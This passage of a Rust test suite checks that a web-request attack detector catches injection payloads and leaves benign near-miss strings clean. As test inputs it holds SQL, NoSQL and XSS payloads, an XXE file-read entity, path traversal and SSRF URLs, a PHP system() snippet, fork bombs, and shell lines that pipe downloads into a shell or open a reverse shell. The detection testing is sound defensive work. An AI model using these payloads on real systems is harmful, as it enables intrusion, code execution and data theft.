        100.0 * f64::from(tot[3]) / f64::from(tot[2].max(1))
    );
    eprintln!("rules firing on clean cases: {rule_counts:?}");
    eprintln!(
        "{} requests, {} points, {} regex evaluations in {:?} (debug build)",
        stats.requests,
        stats.points,
        stats.regex_evaluations,
        started.elapsed()
    );
    assert!(
        det >= CRS_DETECT_FLOOR,
        "detection rate {det:.3} fell below {CRS_DETECT_FLOOR}"
    );
}

/// Reached rate minus a margin (see the measurement printout).
const CRS_DETECT_FLOOR: f64 = 0.45;

// ---- property test ---------------------------------------------------------

mod props {
    use super::*;
    use proptest::prelude::*;

    fn bytes() -> impl Strategy<Value = Vec<u8>> {
        prop_oneof![
            proptest::collection::vec(any::<u8>(), 0..200),
            proptest::collection::vec(
                proptest::sample::select(b"%25uxX\\&;=<>'\"$.{}[]/ 0aF#+\r\n\0".to_vec()),
                0..200
            ),
        ]
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(256))]
        #[test]
        fn inspect_never_panics(
            method in bytes(),
            uri in bytes(),
            hname in bytes(),
            hval in bytes(),
            ct in proptest::sample::select(vec![
                "application/json", "application/x-www-form-urlencoded",
                "multipart/form-data; boundary=a", "text/plain", "multipart/form-data",
            ]),
            body in bytes(),
            anomalies in any::<u32>(),
        ) {
            let mut r = req("GET", "/", &[], &body);
            r.method = method;
            r.uri = uri;
            r.headers = [
                (&hname[..], &hval[..]),
                (b"Cookie", &hval),
                (b"Content-Type", ct.as_bytes()),
            ].into_iter().collect();
            r.anomalies = Anomalies(anomalies);
            static SMALL: OnceLock<Detector> = OnceLock::new();
            let d = SMALL.get_or_init(|| {
                let limits = DetectLimits { max_points: 16, max_point_bytes: 64, max_decode_depth: 2, max_hits_per_request: 8, ..DetectLimits::default() };
                Detector::new(&RuleSet::builtin(), limits)
            });
            let mut stats = DetectStats::default();
            let mut hits = Vec::new();
            d.inspect(&r, &mut stats, &mut hits);
            prop_assert!(hits.len() <= 8);
            prop_assert!(hits.iter().all(|h| h.matched.len() <= MAX_MATCHED_BYTES));
        }
    }
}

#[test]
fn tokenizer_rules_are_rules() {
    let src = r#"
[[rule]]
id = "my-sqli-lex"
kind = "sqli-lex"
class = "sqli"
severity = "critical"
targets = ["query"]
description = "d"

[[rule]]
id = "my-xss-lex"
kind = "xss-lex"
class = "xss"
severity = "high"
targets = ["cookie"]
description = "d"
"#;
    let set = match RuleSet::parse(src, Path::new("x.toml")) {
        Ok(s) => s,
        Err(e) => panic!("{e:?}"),
    };
    let d = Detector::new(&set, DetectLimits::default());
    let mut stats = DetectStats::default();
    let mut hits = Vec::new();
    // Percent-encoded: found on the decoded layer, with the breakout text.
    let r = req(
        "GET",
        "/p?id=x%27%20OR%20%271%27%3D%271&q=%3Csvg/onload=alert(1)%3E",
        &[("Cookie", "a=<img src=x onerror=alert(1)>")],
        b"",
    );
    d.inspect(&r, &mut stats, &mut hits);
    let got: Vec<(&str, &str, Severity, &[u8])> = hits
        .iter()
        .map(|h| {
            (
                &*h.rule_id,
                h.location.as_str(),
                h.severity,
                h.matched.as_slice(),
            )
        })
        .collect();
    assert_eq!(
        got,
        vec![
            (
                "my-sqli-lex",
                "query:id",
                Severity::Critical,
                &b"OR '1'='1"[..]
            ),
            (
                "my-xss-lex",
                "cookie:a",
                Severity::High,
                &b"<img src=x onerror=alert(1)"[..]
            ),
        ],
        "the query's XSS is not targeted by my-xss-lex, the cookie's is"
    );
    // Built in, and taken out by leaving the entry out.
    let builtin = RuleSet::builtin();
    let ids: Vec<&str> = builtin.rules().iter().map(|r| r.id.as_str()).collect();
    assert!(ids.contains(&"specula-sqli-lex") && ids.contains(&"specula-xss-lex"));
    let without = RuleSet::parse(
        r#"
[[rule]]
id = "t"
class = "sqli"
severity = "low"
targets = ["query"]
pattern = 'zzz'
description = "d"
"#,
        Path::new("y.toml"),
    )
    .map_err(|e| format!("{e:?}"));
    let d = Detector::new(&without.unwrap_or_default(), DetectLimits::default());
    hits.clear();
    d.inspect(&r, &mut stats, &mut hits);
    assert!(hits.is_empty(), "{hits:?}");
}

#[test]
fn tokenizer_rule_keys_are_checked() {
    let err = |src: &str| match RuleSet::parse(src, Path::new("x.toml")) {
        Ok(_) => panic!("accepted: {src}"),
        Err(e) => e
            .iter()
            .map(|e| e.to_string())
            .collect::<Vec<_>>()
            .join("\n"),
    };
    let head = "[[rule]]\nid = \"a\"\nclass = \"sqli\"\nseverity = \"low\"\ntargets = [\"query\"]\ndescription = \"d\"\n";
    let e = err(&format!("{head}kind = \"sqli-lex\"\npattern = 'x'\n"));
    assert!(
        e.contains("x.toml:8:1: `pattern` is not used by a tokenizer rule"),
        "{e}"
    );
    let e = err(&format!("{head}kind = \"sqli-lex\"\nprefilter = ['x']\n"));
    assert!(e.contains("`prefilter` is not used"), "{e}");
    let e = err(&format!("{head}kind = \"lex\"\n"));
    assert!(e.contains("x.toml:7:8: unknown kind `lex`"), "{e}");
    let e = err(&format!("{head}kind = 3\n"));
    assert!(e.contains("`kind` must be a string"), "{e}");
    // A regex rule still needs its pattern.
    let e = err(head);
    assert!(e.contains("missing key `pattern`"), "{e}");
}

/// Body parsers and decoding layers, end to end through the built-in rules:
/// the hit's location names the point the new parser made.
#[test]
fn body_parsers_and_layers_reach_the_rules() {
    let at = |r: &Request, rule: &str| -> Vec<String> {
        hits_of(r)
            .iter()
            .filter(|h| &*h.rule_id == rule)
            .map(|h| h.location.clone())
            .collect()
    };
    let xxe =
        br#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#;
    let r = req("POST", "/", &[("Content-Type", "application/xml")], xxe);
    let locs = at(&r, "xxe-external-entity");
    assert!(locs.iter().any(|l| l == "body:xml:!ENTITY"), "{locs:?}");
    assert!(locs.iter().any(|l| l == "body:xml:!DOCTYPE"), "{locs:?}");

    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    std::io::Write::write_all(&mut gz, &vec![b'0'; 8 << 20]).unwrap();
    let bomb = gz.finish().unwrap();
    let r = req("POST", "/", &[("Content-Encoding", "gzip")], &bomb);
    let h = hits_of(&r);
    let h = h
        .iter()
        .find(|h| &*h.rule_id == "protocol-compression-bomb");
    assert_eq!(
        h.map(|h| (h.class, h.location.as_str())),
        Some((AttackClass::Protocol, "body"))
    );

    // Overlong UTF-8 in a parameter is folded as a layer.
    let r = req(
        "GET",
        "/?f=..%c0%af..%c0%af..%c0%afetc%c0%afpasswd",
        &[],
        b"",
    );
    assert!(
        hits_of(&r)
            .iter()
            .any(|h| h.class == AttackClass::Ptrav && h.location == "query:f"),
        "{:?}",
        hits_of(&r)
    );
    // Base64 text in a cookie.
    let r = req(
        "GET",
        "/",
        &[("Cookie", "prefs=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==")],
        b"",
    );
    assert!(
        hits_of(&r)
            .iter()
            .any(|h| h.class == AttackClass::Xss && h.location == "cookie:prefs:base64"),
        "{:?}",
        hits_of(&r)
    );
}

mod s5_lfirfi {
    //! Session 5: traversal, remote include / SSRF, server-side JavaScript
    //! and session-fixation techniques (rules/ptrav.toml, injection.toml,
    //! session.toml).
    use super::*;

    fn has(r: &Request, class: AttackClass) -> bool {
        hits_of(r).iter().any(|h| h.class == class)
    }

    /// Each payload must hit with `class` in every placement and with HTML
    /// entities in the query.
    fn everywhere(class: AttackClass, payloads: &[&str]) {
        let mut failures = Vec::new();
        for p in payloads {
            let mut cases = placements(p);
            cases.push((
                "html entities".into(),
                req("GET", &format!("/q?x={}", pct(&html_entities(p))), &[], b""),
            ));
            for (place, r) in cases {
                if !has(&r, class) {
                    failures.push(format!("{place}: {p:?} -> {:?}", hits_of(&r)));
                }
            }
        }
        assert!(failures.is_empty(), "{}", failures.join("\n"));
    }

    /// None of the values may be flagged, in any placement.
    fn nowhere(values: &[&str]) {
        let mut failures = Vec::new();
        for v in values {
            for (place, r) in placements(v) {
                let hits = hits_of(&r);
                if !hits.is_empty() {
                    failures.push(format!("{place}: {v:?} -> {hits:?}"));
                }
            }
        }
        assert!(failures.is_empty(), "{}", failures.join("\n"));
    }

    fn path_hits(path: &str, class: AttackClass) -> bool {
        has(&req("GET", path, BROWSER_HEADERS, b""), class)
    }

    #[test]
    fn ptrav_path_parameter_and_hex_literal_traversal() {
        everywhere(
            AttackClass::Ptrav,
            &[
                "..;/manager/html",
                "..;.\\..;\\x",
                "0x2e0x2e0x2fconfig",
                "..0x5cboot",
                "0x5c0x2e.\u{0}/",
                "/app/0x2e0x2e/x",
            ],
        );
        assert!(path_hits("/app/..;/admin/", AttackClass::Ptrav));
        // In a header and an XML attribute.
        let r = req("GET", "/", &[("X-Probe", "0x2e0x2e0x5cwin")], b"");
        assert!(has(&r, AttackClass::Ptrav), "{:?}", hits_of(&r));
        let r = req(
            "POST",
            "/x",
            &[("Content-Type", "application/xml")],
            b"<?xml version=\"1.0\"?><a p=\"0x2f..0x2fetc\"></a>",
        );
        assert!(has(&r, AttackClass::Ptrav), "{:?}", hits_of(&r));
    }

    #[test]
    fn ptrav_pseudo_files_credentials_and_tool_folders() {
        everywhere(
            AttackClass::Ptrav,
            &[
                "/proc/sys/kernel/randomize_va_space",
                "/srv/app/.docker/secrets",
                "deploy/.kube/config",
                "~/.gnupg/secring.gpg",
            ],
        );
        let r = req(
            "GET",
            "/",
            &[("User-Agent", "cat /proc/sys/kernel/core_pattern")],
            b"",
        );
        assert!(has(&r, AttackClass::Ptrav), "{:?}", hits_of(&r));
        for p in [
            "/x/y/proc/kallsyms",
            "/.plandex/context.json",
            "/.fabric/fabric.env",
            "/repo/.rovodev/agent.md",
            "/.aiignore",
            "/.cursorignore",
            "/.npmignore",
            "/.cursorrules",
            "/@fs/home/app/src/main.ts",
            "/@fs/etc/passwd?import&raw??",
            "/@id/__x00__virtual:entry",
        ] {
            assert!(path_hits(p, AttackClass::Ptrav), "{p}");
        }
        for p in [
            "/docs/sys/class",
            "/@alice/posts",
            "/@id/profile",
            "/.well-known/security.txt",
            "/guides/rules",
            "/api/proc/status",
        ] {
            assert!(!path_hits(p, AttackClass::Ptrav), "{p}");
        }
    }

    #[test]
    fn ptrav_backup_file_parameter() {
        for u in [
            "/download?file=backup.sql.zip",
            "/download?file=db/dump-2024.sql.gz",
            "/get?f=..%2Fsite.bak",
            "/get?f=users.sqlite3",
        ] {
            let r = req("GET", u, BROWSER_HEADERS, b"");
            assert!(has(&r, AttackClass::Ptrav), "{u}: {:?}", hits_of(&r));
        }
        for u in [
            "/download?file=report.pdf",
            "/search?q=how+to+restore+a+.sql+file",
            "/get?f=notes.sql.txt",
            "/get?lang=sql",
        ] {
            let r = req("GET", u, BROWSER_HEADERS, b"");
            assert!(hits_of(&r).is_empty(), "{u}: {:?}", hits_of(&r));
        }
    }

    #[test]
    fn ptrav_near_misses() {
        nowhere(&[
            "wait...; then go",
            "0x2e is the code of a dot",
            "see /proc for details",
            "my .dockerfile tips",
            "photos/2024/holiday.zip",
        ]);
    }

    #[test]
    fn rfi_ssrf_url_techniques() {
        everywhere(
            AttackClass::Ssrf,
            &[
                "http://good.example/:x@evil.example/",
                "https://good.example/:a@b@evil.example/",
                "http://\\\\l\\\\o\\\\c\\\\a\\\\l\\\\h\\\\o\\\\s\\\\t/",
                "http://\\evil.example/",
                "http://[a::b]/",
                "https://[2001:db8::5]:8443/x",
                "host.docker.internal/",
                "http://gateway.docker.internal:2375/containers",
                "api.default.svc.cluster.local/",
                "http://kubernetes.default.svc/api",
                "localtest.me/",
                "http://app.lvh.me:3000/",
                "127.0.0.1.nip.io:8080/",
                "localhost4.localdomain4/",
                "ipv6-localhost/",
            ],
        );
        everywhere(
            AttackClass::Rfi,
            &[
                "ftp://files.example.net/pub/x",
                "ftps://10.1.2.3",
                "data:text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+",
                "data:application/x-httpd-php,x",
            ],
        );
        // JSON key, XML element text, path.
        let r = req(
            "POST",
            "/p",
            &[("Content-Type", "application/json")],
            br#"{ "data:text/plain":"x" }"#,
        );
        assert!(has(&r, AttackClass::Rfi), "{:?}", hits_of(&r));
        let r = req(
            "POST",
            "/api/",
            &[("Content-Type", "application/xml")],
            b"<?xml version=\"1.0\"?><c><t>ftp%3A%2F%2F198.51.100.9</t></c>",
        );
        assert!(
            has(&r, AttackClass::Rfi) || has(&r, AttackClass::Ssrf),
            "{:?}",
            hits_of(&r)
        );
        assert!(path_hits("/view/file:///usr/share/app/x", AttackClass::Rfi));
    }

    #[test]
    fn rfi_ssrf_near_misses() {
        nowhere(&[
            "https://medium.com/@alice/my-post",
            "https://www.tiktok.com/@user.name/video/1",
            "http://example.com/a:b",
            "https://example.com/x?a=1#frag",
            "https:\\/\\/example.com\\/path\\/x",
            "localhost",
            "mylocalhost",
            "example.com/",
            "we used ftp://files.example.net back then",
            "the docker.internal network",
        ]);
        // An inline image is no remote include (rce-php-wrapper in
        // rules/rce.toml still flags it as a PHP data: wrapper).
        for (place, r) in placements("data:image/png;base64,iVBORw0KGgo=") {
            assert!(!has(&r, AttackClass::Rfi), "{place}: {:?}", hits_of(&r));
        }
    }

    #[test]
    fn js_flight_gadget_and_endless_loop() {
        everywhere(
            AttackClass::Rce,
            &[
                "while(String);",
                "while(!!{})",
                "while (!undefined) {}",
                "while(!NaN)",
                "while((true)))",
                "while(Object);",
                "while(!0);",
            ],
        );
        let r = req(
            "POST",
            "/",
            &[("Content-Type", "application/json")],
            br#"{"then":"$1:__proto__:then","_response":{"_formData":{"get":"$3:constructor:constructor"}}}"#,
        );
        assert!(has(&r, AttackClass::Rce), "{:?}", hits_of(&r));
        let r = req(
            "POST",
            "/",
            &[("Content-Type", "multipart/form-data; boundary=b")],
            b"--b\r\nContent-Disposition: form-data; name=\"0\"\r\n\r\n{\"value\":\"{\\\"set\\\":\\\"$7:Module:prototype:_compile\\\"}\"}\r\n--b--\r\n",
        );
        assert!(has(&r, AttackClass::Rce), "{:?}", hits_of(&r));
        nowhere(&[
            "while (true) loops can hang",
            "while(!true);",
            "while (busy) wait",
            r#"{"ref":"$1:items","price":"$5"}"#,
            "the constructor:prototype chain in JS",
        ]);
    }

    #[test]
    fn session_fixation_server_names() {
        for u in [
            "/console/login?weblogicsession=abc123",
            "/servlet/x?JServSession=abc",
            "/x?jwsession=1",
            "/app.cfm?CFSID=12345",
            "/login?phpsession=abc",
            "/api/signin?__Secure-next-auth.session-token=t",
            "/api/signin?__Host-authjs.session-token=t",
        ] {
            let r = req("GET", u, BROWSER_HEADERS, b"");
            assert!(
                has(&r, AttackClass::SessionFixation),
                "{u}: {:?}",
                hits_of(&r)
            );
        }
        let r = req(
            "POST",
            "/",
            &[("Content-Type", "application/json")],
            br#"{ "phpsession":"foo" }"#,
        );
        assert!(has(&r, AttackClass::SessionFixation), "{:?}", hits_of(&r));
        for u in [
            "/login?sessionid=abc123",
            "/ad?sid=42",
            "/x?session=1",
            "/x?my_phpsession_count=2",
        ] {
            let r = req("GET", u, BROWSER_HEADERS, b"");
            assert!(
                !has(&r, AttackClass::SessionFixation),
                "{u}: {:?}",
                hits_of(&r)
            );
        }
    }

    #[test]
    fn sqli_orm_filter_leak_names() {
        for u in [
            "/api/users?username__startswith=a",
            "/api/users?email__iendswith=corp.example",
            "/api/users?bio__iregex=%5Ea",
            "/api/users?password__isnull=false",
            "/api/posts?author__user__password__startswith=pbkdf2",
            "/api/posts?author__api_key__gt=m",
        ] {
            let r = req("GET", u, BROWSER_HEADERS, b"");
            assert!(has(&r, AttackClass::Sqli), "{u}: {:?}", hits_of(&r));
        }
        let r = req(
            "POST",
            "/api/search",
            &[("Content-Type", "application/json")],
            br#"{"created_by__departments__user__username__startswith":"p"}"#,
        );
        assert!(has(&r, AttackClass::Sqli), "{:?}", hits_of(&r));
        for u in [
            "/admin/blog/post/?author__id__exact=3",
            "/api/items?name__exact=a&city__in=b",
            "/api/items?created__gte=2024-01-01",
            "/search?q=use+field__startswith+for+filtering",
            "/api/items?__startswith=x",
            "/api/items?password=x",
        ] {
            let r = req("GET", u, BROWSER_HEADERS, b"");
            assert!(!has(&r, AttackClass::Sqli), "{u}: {:?}", hits_of(&r));
        }
    }
}

/// Session 5, rce/php: shell and PHP techniques from CRS 932xxx/933xxx
/// written as classes of payloads (rules/rce.toml, the shell normalisation's
/// filler expansions).
mod s5_rce {
    use super::*;

    fn rule_hits(r: &Request) -> Vec<String> {
        hits_of(r).iter().map(|h| h.rule_id.to_string()).collect()
    }

    /// Each payload must hit its rule in every placement (query, double
    /// encoded, form, JSON, cookie).
    #[test]
    fn techniques_hit_in_every_placement() {
        let cases: &[(&str, &[&str])] = &[
            (
                "rce-shell-fork-bomb",
                &[
                    "f(){ f|f& };f",
                    ".(){ .|.& };.",
                    "boom() { boom | boom & }; boom",
                    "x(){ x() & x(); }; x",
                ],
            ),
            ("rce-shellshock-prefix", &["() {", "  ( ) { :; }"]),
            (
                "rce-shell-history-tilde",
                &["!!", "!-3!-1", "!12", "~+", "~-2", "~1"],
            ),
            (
                "rce-shell-brace-expansion",
                &["{,id}", "{,ip,addr}", "w{h,}oami", "{,$'uname',-a}"],
            ),
            (
                "rce-shell-pipe-to-interpreter",
                &[
                    "echo aWQ= | base64 -d | bash",
                    "curl x.sh|sh",
                    "echo x | tcc -run -",
                    "(bash)0>$h/tcp/10.1.2.3/4444",
                    "cc -wrapper bash,-c,id x.c",
                    "x;. rm -rf /tmp/a",
                    "1; .system id",
                ],
            ),
            (
                "rce-shell-variable-assembly",
                &["a=i;b=d;c= ;$a$b", "$x$y$z$w /etc/hosts"],
            ),
            (
                "rce-windows-for-if",
                &[
                    "FOR %% IN (a) DO echo",
                    "for /R /D %x in (*) do del %x",
                    "for %[ in (1)do calc",
                    "if not (1 geq 2) echo x",
                    "IF [%1]==[] goto end",
                    "if/i a==b calc",
                ],
            ),
            (
                "rce-command-value",
                &[
                    "whoami",
                    "'who'ami",
                    "ifconfig;x",
                    "ping -c 3 192.168.1.1",
                    "ping$() 10.0.0.1",
                    "p``ing 10.0.0.1",
                    "bcdedit /set x",
                    "schtasks /create /tn x",
                ],
            ),
            (
                "rce-unix-tool-value",
                &[
                    "ansible-inventory graph",
                    "chef generate cookbook x",
                    "cscli decisions list",
                    "aa-complain /etc/apparmor.d/x",
                ],
            ),
            (
                "rce-shell-alias-or-var-command",
                &["alias -p x=id", "alias ..='cd ..'", "t=wh[o]ami;$t -x"],
            ),
            (
                "rce-php-builtin-call-value",
                &[
                    "substr ()",
                    "strrev/*x*/('a')",
                    "serialize#c\n()",
                    "touch/*a*/()",
                    "range\n()",
                    "crypt(abc)",
                ],
            ),
            (
                "rce-php-variable-call-comment",
                &["$f //x\n('id')", "$_a /*c*/\n[0] (1)", "$fn\n ()"],
            ),
            (
                "rce-php-superglobal-spaced",
                &["$_SERVER", "$_G ET['a']", "$  { x }"],
            ),
        ];
        let mut failures = Vec::new();
        for (rule, payloads) in cases {
            for p in *payloads {
                for (place, r) in placements(p) {
                    let got = rule_hits(&r);
                    if !got.iter().any(|g| g == rule) {
                        failures.push(format!("{rule} {place}: {p:?} -> {got:?}"));
                    }
                }
            }
        }
        assert!(
            failures.is_empty(),
            "{} misses:\n{}",
            failures.len(),
            failures.join("\n")
        );
    }

    /// Values whose technique is a line break (mail protocols) or a header.
    #[test]
    fn mail_and_header_placements() {
        let cases: &[(&str, Request)] = &[
            (
                "mail-imap-pop3-command",
                req(
                    "GET",
                    "/m?t=x%0Aa12%20uid%20fetch%201:*%20(FLAGS)",
                    &[],
                    b"",
                ),
            ),
            (
                "mail-imap-pop3-command",
                req(
                    "POST",
                    "/m",
                    &[("Content-Type", "application/x-www-form-urlencoded")],
                    b"t=hi%0D%0Ax1+store+1:3+-FLAGS+(%5CSeen)",
                ),
            ),
            (
                "mail-imap-pop3-command",
                req(
                    "POST",
                    "/m",
                    &[("Content-Type", "application/json")],
                    br#"{"t":"x\r\nretr 1\r\n"}"#,
                ),
            ),
            (
                "rce-unix-tool-value",
                req("GET", "/", &[("User-Agent", "chef-client -z")], b""),
            ),
            (
                "rce-command-prefix-lead",
                req("GET", "/", &[("User-Agent", "nohup bash -i")], b""),
            ),
            (
                "rce-shellshock-prefix",
                req("GET", "/", &[("X-Thing", "() {")], b""),
            ),
            (
                "rce-restricted-upload-name",
                req("PUT", "/u", &[("X-Filename", ".bashrc")], b""),
            ),
            (
                "rce-restricted-upload-name",
                req("PUT", "/u", &[("X-File-Name", "wp-config.php.bak")], b""),
            ),
            (
                "rce-php-upload-filename",
                req("PUT", "/u", &[("X.Filename", "shell. phtml")], b""),
            ),
            (
                "rce-php-upload-filename",
                req("PUT", "/u", &[("X-Filename", "a.php7..")], b""),
            ),
            (
                "rce-php-code",
                req(
                    "GET",
                    "/",
                    &[("X-Forwarded-For", "<?php system('id'); ?>")],
                    b"",
                ),
            ),
        ];
        let mut failures = Vec::new();
        for (rule, r) in cases {
            let got = rule_hits(r);
            if !got.iter().any(|g| g == rule) {
                failures.push(format!(
                    "{rule}: {} {:?} -> {got:?}",
                    String::from_utf8_lossy(&r.uri),
                    r.headers
                ));
            }
        }
        assert!(failures.is_empty(), "{}", failures.join("\n"));
    }

    /// Near misses: prose, code and names that look like the techniques.
    #[test]
    fn near_misses_stay_clean() {
        let benign = [
            "render() { return a || b; }",
            "function(){ a && b; }",
            "Great!!",
            "Wow !",
            "~ 20 minutes",
            "approx ~5",
            "{\"a\":1,\"b\":2}",
            "c{1,2}",
            "I piped it | shell script later",
            "version 1.2; source code available",
            "if you want, then go",
            "for each item in (the list) do nothing",
            "whoami is a command",
            "Ping me at 10.0.0.1",
            "ping",
            "sc",
            "We went to the chef; chef report was fine",
            "pip install requests==2.31.0",
            "kubectl get pods -n kube-system",
            "Touch (Remastered)",
            "Hash (food)",
            "Pack (canine)",
            "range (10-20)",
            "File (new)",
            "Time (UTC)",
            "I paid $5\n(approx) for it",
            "What does $_GET mean in PHP?",
            "precision engineering",
            "a=1; $a is cheap",
            "Hi team,\nwe will list 3 options below.",
            "Order A1 steak sauce\nA1 list is here",
            "echo $HOME",
            "100$ and $$ off",
        ];
        let mut failures = Vec::new();
        for p in benign {
            for (place, r) in placements(p) {
                // A raw line break inside a header value (the cookie
                // placement) is a protocol anomaly in its own right; these
                // near-misses are about the command classes.
                let hits: Vec<_> = hits_of(&r)
                    .into_iter()
                    .filter(|h| h.class != AttackClass::Protocol)
                    .collect();
                if !hits.is_empty() {
                    failures.push(format!("{place}: {p:?} -> {hits:?}"));
                }
            }
        }
        for (name, value) in [
            ("X-Filename", "holiday.jpg"),
            ("X-Filename", "config-backup.zip"),
            ("User-Agent", "curl/8.4.0"),
            ("User-Agent", "python-requests/2.31.0"),
        ] {
            let r = req("PUT", "/u", &[(name, value)], b"");
            if !hits_of(&r).is_empty() {
                failures.push(format!("{name}: {value:?} -> {:?}", hits_of(&r)));
            }
        }
        assert!(
            failures.is_empty(),
            "{} false positives:\n{}",
            failures.len(),
            failures.join("\n")
        );
    }
}

/// Session 5, SQL injection and XSS: stacked statements cut short, keywords
/// split by comments, Latin-1 spaces, accent quotes, NOT REGEXP literals,
/// open subqueries, NoSQL operator objects and JS busy-waits; XSS schemes
/// spelt with `&Tab;`, spaced tags in User-Agent, `valueOf=` breakouts.
mod s5_sqli_xss {
    use super::*;

    fn rules_hit(r: &Request) -> Vec<String> {
        hits_of(r).iter().map(|h| h.rule_id.to_string()).collect()
    }

    /// Every placement (and HTML entities in the query) hits `rule`.
    fn hits_everywhere(rule: &str, payload: &str) {
        let mut cases = placements(payload);
        cases.push((
            "html entities".into(),
            req(
                "GET",
                &format!("/q?x={}", pct(&html_entities(payload))),
                &[],
                b"",
            ),
        ));
        for (place, r) in cases {
            let ids = rules_hit(&r);
            assert!(
                ids.iter().any(|i| i == rule),
                "{rule} missed {payload:?} in {place}: {ids:?}"
            );
        }
    }

    fn no_class(classes: &[AttackClass], payload: &str) {
        for (place, r) in placements(payload) {
            let hits = hits_of(&r);
            assert!(
                !hits.iter().any(|h| classes.contains(&h.class)),
                "flagged {payload:?} in {place}: {hits:?}"
            );
        }
    }

    #[test]
    fn stacked_statements_cut_short() {
        for p in [
            ";update users",
            ";drop",
            "; DROP",
            ";SET @OLD_SQL_MODE",
            "; set @x",
            ";truncate[logs",
            "1;delete",
            "x'; update users",
            "(select",
        ] {
            hits_everywhere("specula-sqli-lex", p);
        }
    }

    #[test]
    fn keywords_split_by_comments() {
        for p in [
            "DR/**/OP/*bypass deny listing*/sampletable",
            "S/**/EL/**/ECT password",
            "x UN/*foo*/ION all",
            "1 O/**/R 2",
        ] {
            hits_everywhere("specula-sqli-lex", p);
        }
        // A Latin-1 non-breaking space is whitespace to MySQL.
        let r = req("GET", "/item?id=1'%A0or%A01=1--", &[], b"");
        assert!(rules_hit(&r).iter().any(|i| i == "specula-sqli-lex"));
    }

    #[test]
    fn quotes_literals_and_subqueries() {
        for p in ["1´ OR ´1´=´x´#", "admin’ #", "admin‘--", "x＇ or ＇a＇=＇a"] {
            hits_everywhere("sqli-typographic-quote", p);
        }
        for p in ["'1' not regexp '2'", "1 not like 2", "'a' NOT RLIKE 'b'"] {
            hits_everywhere("sqli-clause-fragment", p);
        }
        for p in ["x=(select", "[@vendor]=(SELECT", "id in ( select"] {
            hits_everywhere("sqli-subquery-exists", p);
        }
    }

    #[test]
    fn nosql_operator_objects_and_js_delays() {
        for p in [
            r#"{"$ne": null}"#,
            r#"{"$gt":""}"#,
            r#"{"name": {"$regex": ".*"}}"#,
            "{'$where': 'this.a'}",
        ] {
            hits_everywhere("nosqli-json-operator-value", p);
        }
        for p in [
            "x' (function(){var a=new Date();do{var b=new Date();}while(b-a<20000);}()) '",
            "';while(Date.now()-t<5000){};'",
            "1;while(new Date().getTime() - s < 3000);",
        ] {
            hits_everywhere("nosqli-js-time-delay", p);
        }
    }

    #[test]
    fn xss_scheme_tag_and_breakout_variants() {
        for p in [
            "v&newline;b&tab;s&newline;c&newline;r&tab;i&tab;p&newline;t&colon;:",
            "j&Tab;a&Tab;v&Tab;a&Tab;s&Tab;c&Tab;r&Tab;i&Tab;p&Tab;t&colon;alert(1)",
        ] {
            let r = req("GET", &format!("/q?u={}", pct(p)), &[], b"");
            assert!(rules_hit(&r).iter().any(|i| i == "xss-js-uri"), "{p:?}");
        }
        for ua in ["Mozilla/5.0 <f o r m action=x>", "x <s c r i p t>"] {
            let r = req("GET", "/", &[("User-Agent", ua)], b"");
            assert!(
                rules_hit(&r).iter().any(|i| i == "xss-spaced-tag"),
                "{ua:?}"
            );
        }
        hits_everywhere("xss-context-breakout", "\"in valueOf=");
        let r = req(
            "GET",
            "/q?v=%22in%20\\u0076\\u0061l\\u0075e\\u004F\\u0066%3d",
            &[],
            b"",
        );
        assert!(rules_hit(&r).iter().any(|i| i == "xss-context-breakout"));
    }

    #[test]
    fn fullwidth_forms_fold_to_ascii() {
        let mut out = Vec::new();
        assert!(crate::detect::decode::fold_fullwidth(
            "＜ｓｃｒｉｐｔ＞　＇～".as_bytes(),
            &mut out
        ));
        assert_eq!(out, b"<script> '~");
        out.clear();
        assert!(!crate::detect::decode::fold_fullwidth(
            "日本語 café".as_bytes(),
            &mut out
        ));
        assert_eq!(out, "日本語 café".as_bytes());
        for (class, p) in [
            (AttackClass::Sqli, "1＇ ｏｒ １＝１--"),
            (
                AttackClass::Sqli,
                "１ ＵＮＩＯＮ ＳＥＬＥＣＴ password FROM users",
            ),
            (AttackClass::Xss, "＜script＞alert(1)＜/script＞"),
            (AttackClass::Xss, "＜svg onload＝alert(1)＞"),
        ] {
            for (place, r) in placements(p) {
                let hits = hits_of(&r);
                assert!(
                    hits.iter().any(|h| h.class == class),
                    "missed {p:?} in {place}: {hits:?}"
                );
            }
        }
        // Full-width prose and numbers stay clean.
        no_class(
            &[AttackClass::Sqli, AttackClass::Xss],
            "ＴＥＬ：０３－１２３４－５６７８　東京都",
        );
    }

    #[test]
    fn near_misses_stay_clean() {
        let sql = [AttackClass::Sqli, AttackClass::Nosqli];
        for p in [
            "Hello; drop me a line",
            "drop shipping; select a supplier",
            "thanks; update to follow",
            "voilà à bientôt",
            "docs/**/or",
            "a/*note*/b",
            "the kids’ toys",
            "Jane’s #1 fan",
            "it’s -- honestly -- fine",
            "(selected items)",
            "price = (select one)",
            r#"{"price": "$19.99", "tags": ["$ne"]}"#,
            "new Date() while loading",
            "do { x = new Date() } while (waiting)",
            "1 not like the others",
        ] {
            no_class(&sql, p);
        }
        for p in [
            "tab; newline; colon: punctuation names",
            "the value of x in valueOf",
        ] {
            no_class(&[AttackClass::Xss], p);
        }
    }
}

mod s5_protocol {
    use super::*;

    /// The `protocol-*` finding ids of a request.
    fn ids(r: &Request) -> Vec<String> {
        hits_of(r)
            .into_iter()
            .filter(|h| h.class == AttackClass::Protocol)
            .map(|h| h.rule_id.to_string())
            .collect()
    }

    fn has(r: &Request, id: &str) -> bool {
        ids(r).iter().any(|i| i == id)
    }

    const HOST: (&str, &str) = ("Host", "example.com");
    const FORM: (&str, &str) = ("Content-Type", "application/x-www-form-urlencoded");

    #[test]
    fn ordinary_requests_have_no_protocol_findings() {
        let ok = [
            req("GET", "/", BROWSER_HEADERS, b""),
            req(
                "GET",
                "/a?b=c&d=%C3%A9t%C3%A9&e=caf%E9&f=50%25",
                &[HOST],
                b"",
            ),
            req(
                "POST",
                "/login",
                &[HOST, FORM, ("Content-Length", "13")],
                b"user=a&pw=b+c",
            ),
            req(
                "POST",
                "/api",
                &[
                    HOST,
                    ("Content-Type", "application/json; charset=utf-8"),
                    ("Content-Length", "7"),
                ],
                b"{\"a\":1}",
            ),
            req("POST", "/ping", &[HOST, ("Content-Length", "0")], b""),
